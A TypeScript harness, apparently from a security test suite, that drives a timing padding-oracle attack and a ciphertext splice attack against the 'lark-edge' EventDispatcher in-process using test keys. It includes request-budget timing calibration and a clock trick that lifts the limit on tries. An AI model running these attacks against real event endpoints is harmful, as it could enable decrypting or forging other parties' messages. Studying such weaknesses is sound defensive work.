// Both attacks in one process or isolate, with the host's own crypto and a real clock.
import { EventDispatcher } from "lark-edge/event";
import { withEndlessTries } from "../../support/time.ts";
import { findSplices, type Loot, paddingAttack, spliceAttack } from "../attacks.ts";
import { ENCRYPT_KEY, TOKEN } from "../unsigned-bodies.ts";

/** How to attack. */
export interface AttackSetting {
  requests: number;
  /** The attack on the padding ends after about so many seconds. */
  seconds: number;
  /** Whether the limit of tries is off, by a clock that runs ahead. */
  opened: boolean;
}

export interface AttackResult {
  readonly padding: Loot;
  readonly splice: Loot;
  /** How many answers had each status. */
  readonly statuses: Record<string, number>;
  readonly seconds: number;
}

const TIMES = 8;
const WARM_UP = 200;
const BYTES = 4;
const GUESSES = 256;

/** Sends one body. */
export type Send = (body: Uint8Array) => Promise<{ status: number; body: string }>;
/** Sends a body so many times, and resolves to how long that took, in microseconds. */
export type SendMany = (body: Uint8Array, times: number) => Promise<number>;

/** Leads both attacks: three quarters of the requests measure time, the others look at what comes back. */
export async function attack(send: Send, many: SendMany, setting: AttackSetting): Promise<AttackResult> {
  const { requests, seconds } = setting;
  const clock = performance.now();
  const statuses: Record<string, number> = {};
  const splices = await findSplices(4);
  const body = splices[0]?.body(3) as Uint8Array;
  // The first requests are slow, and the last of them tell how many there is time for.
  let spent = 0;
  for (let batch = 0; batch < WARM_UP; batch++) {
    const took = await many(body, TIMES);
    spent += batch >= WARM_UP / 2 ? took : 0;
  }
  const perRequest = spent / (TIMES * WARM_UP * 0.5) / 1e6;
  const affordable = perRequest > 0 ? (seconds * 0.75) / perRequest : Number.POSITIVE_INFINITY;
  const measured = Math.min(requests * 0.75, affordable);
  const rounds = Math.max(Math.round(measured / (BYTES * GUESSES * TIMES)), 4);
  const padding = await paddingAttack(many as never, { rounds, times: TIMES, bytes: BYTES });
  const splice = await spliceAttack(
    async (spliced) => {
      const { status, body: text } = await send(spliced);
      statuses[status] = (statuses[status] ?? 0) + 1;
      return JSON.parse(text).challenge;
    },
    splices,
    Math.round(Math.min(requests / 4, affordable / 3)),
  );
  return { padding, splice, statuses, seconds: Math.round((performance.now() - clock) / 1_000) };
}

export async function run(setting: AttackSetting): Promise<AttackResult> {
  const events = new EventDispatcher({ encryptKey: ENCRYPT_KEY, verificationToken: TOKEN, loggerLevel: "silent" });
  const none = () => null;
  const send: Send = (body) => events.handle(body, none);
  const many: SendMany = async (body, times) => {
    const started = performance.now();
    for (let left = times; left; left--) {
      await events.handle(body, none);
    }
    return (performance.now() - started) * 1e3;
  };
  const lead = () => attack(send, many, setting);
  return setting.opened ? withEndlessTries(lead) : lead();
}
